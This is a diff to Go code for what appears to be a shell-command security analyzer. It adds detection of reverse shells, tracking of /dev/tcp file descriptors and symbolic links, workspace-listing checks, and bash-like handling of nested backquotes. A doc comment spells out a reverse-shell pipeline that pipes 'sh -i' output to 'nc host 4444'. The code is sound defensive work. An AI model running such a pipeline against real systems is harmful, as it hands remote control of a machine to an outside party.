@@ -19,10 +19,14 @@ type walker struct {
 	called  map[string]bool
 	calling map[string]bool
 	aliases map[string]string
+	hashed  map[string]arg // hash -p: name → program
+	netFDs  map[string]string // file descriptors opened on /dev/tcp: fd → host
+	links   map[string]string // symbolic links made earlier: link → target
 	written map[string]bool      // paths written earlier in this command line
 	seen    map[syntax.Node]bool // substitutions and commands already analyzed
 	full    bool                 // MaxUnits reached
-	files   []*syntax.File       // every parsed script, for the final sweep
+	files   []parsedFile         // every parsed script, for the final sweep
+	srcs    []string             // the source of the script being walked, innermost last
 
 	aliasDefs []string // aliases in definition order
 }
@@ -45,8 +49,15 @@ func (w *walker) script(sc *scope, src, via string) {
 		w.opaque(sc, src, analysis.FindingUnparsable, detail)
 		return
 	}
-	w.files = append(w.files, f)
+	w.files = append(w.files, parsedFile{f, src})
+	w.srcs = append(w.srcs, src)
 	w.stmts(sc, f.Stmts)
+	w.srcs = w.srcs[:len(w.srcs)-1]
+}
+
+type parsedFile struct {
+	f   *syntax.File
+	src string
 }
 
 // opaque records a unit that cannot be understood.
@@ -313,9 +324,81 @@ func (w *walker) pipeline(sc *scope, c *syntax.BinaryCmd) {
 	if text, ok := w.staticOutput(sc, c.X); ok {
 		in.text, in.known = text, true
 	}
+	in.listed = w.onlyListsWorkspace(start)
+	mid := len(w.units)
 	right := sc.child()
 	right.stdin = in
 	w.stmt(right, c.Y)
+	w.reverseShell(start, mid)
+}
+
+// listers print path names; filters pass a subset of their input on.
+var listers = map[string]bool{"find": true, "fd": true, "fdfind": true, "ls": true, "grep": true, "rg": true, "ag": true, "ack": true, "git": true}
+var lineFilters = map[string]bool{"sort": true, "uniq": true, "head": true, "tail": true, "grep": true, "rg": true, "tac": true, "shuf": true}
+
+// onlyListsWorkspace reports whether the units since start only list path
+// names under the workspace (find . -name x, git ls-files, grep -rl x .),
+// possibly filtered, so that what they print are workspace paths.
+func (w *walker) onlyListsWorkspace(start int) bool {
+	lister := false
+	for i := start; i < len(w.units); i++ {
+		u := &w.units[i]
+		listsNames := false
+		switch u.Program {
+		case "find", "fd", "fdfind", "ls":
+			listsNames = !u.Effects.Any(analysis.Effects(analysis.Destructive, analysis.LocalWrite)) && !slicesContains(u.Argv, "-printf")
+		case "grep", "rg", "ag", "ack":
+			listsNames = slicesContains(u.Argv, "-l") || slicesContains(u.Argv, "-rl") || slicesContains(u.Argv, "-lr") ||
+				slicesContains(u.Argv, "--files-with-matches") || slicesContains(u.Argv, "--files")
+		case "git":
+			listsNames = u.Subcommand == "ls-files" || (u.Subcommand == "diff" && slicesContains(u.Argv, "--name-only"))
+		}
+		if listsNames {
+			lister = true
+			for _, p := range u.Paths {
+				if p.Class != analysis.Workspace {
+					return false
+				}
+			}
+			continue
+		}
+		if !lineFilters[u.Program] || !u.Effects.Within(analysis.Effects(analysis.Read)) {
+			return false
+		}
+	}
+	return lister
+}
+
+func slicesContains(s []string, v string) bool {
+	for _, x := range s {
+		if x == v {
+			return true
+		}
+	}
+	return false
+}
+
+// reverseShell marks a shell or interpreter that reads its commands from
+// a pipe or a terminal when its output is piped into a network command:
+// cat f | sh -i | nc host 4444 > f.
+func (w *walker) reverseShell(start, mid int) {
+	network := false
+	for i := mid; i < len(w.units); i++ {
+		if len(w.units[i].Hosts) > 0 || w.units[i].Effects.Has(analysis.Network) {
+			network = true
+		}
+	}
+	if !network {
+		return
+	}
+	for i := start; i < mid; i++ {
+		u := &w.units[i]
+		if u.HasFinding(analysis.FindingStdinToShell) || u.HasFinding(analysis.FindingInteractive) ||
+			u.HasFinding(analysis.FindingHeredocShell) {
+			u.Effects = u.Effects.With(analysis.RemoteCode).With(analysis.Exfiltration)
+			u.AddFinding(analysis.FindingReverseShell, u.Program+" reads commands and sends its output to the network")
+		}
+	}
 }
 
 // staticOutput returns what a statement prints when that is known: an echo
@@ -371,7 +454,35 @@ func (w *walker) substitution(sc *scope, n syntax.Node, stmts []*syntax.Stmt) {
 	w.seen[n] = true
 	c := sc.child()
 	c.stdin = nil
+	if cs, ok := n.(*syntax.CmdSubst); ok && cs.Backquotes && len(w.srcs) > 0 {
+		// Bash parses `...` in two steps: it removes the backslashes before
+		// ` $ and \, then parses the result. Nested backquotes are only
+		// visible after that step, so do as bash does.
+		src := w.srcs[len(w.srcs)-1]
+		l, r := int(cs.Left.Offset()), int(cs.Right.Offset())
+		if l >= 0 && r <= len(src) && l < r {
+			raw := src[l+1 : r]
+			if un := unescapeBackquotes(raw); un != raw {
+				w.script(c.nested("`...`", 0, 0), un, "backquotes")
+				return
+			}
+		}
+	}
 	w.stmts(c, stmts)
+}
+
+func unescapeBackquotes(s string) string {
+	if !strings.Contains(s, "\\") {
+		return s
+	}
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) && (s[i+1] == '`' || s[i+1] == '$' || s[i+1] == '\\') {
+			i++
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
 }
 
 // finish analyzes what the walk could not reach in order: functions that
@@ -392,8 +503,9 @@ func (w *walker) finish(sc *scope) {
 			w.script(sc.nested("alias "+name, 0, 0), text, "alias "+name)
 		}
 	}
-	for _, f := range w.files {
-		syntax.Walk(f, func(n syntax.Node) bool {
+	for _, pf := range w.files {
+		w.srcs = append(w.srcs[:0], pf.src)
+		syntax.Walk(pf.f, func(n syntax.Node) bool {
 			switch n := n.(type) {
 			case *syntax.CmdSubst:
 				if !w.seen[n] {
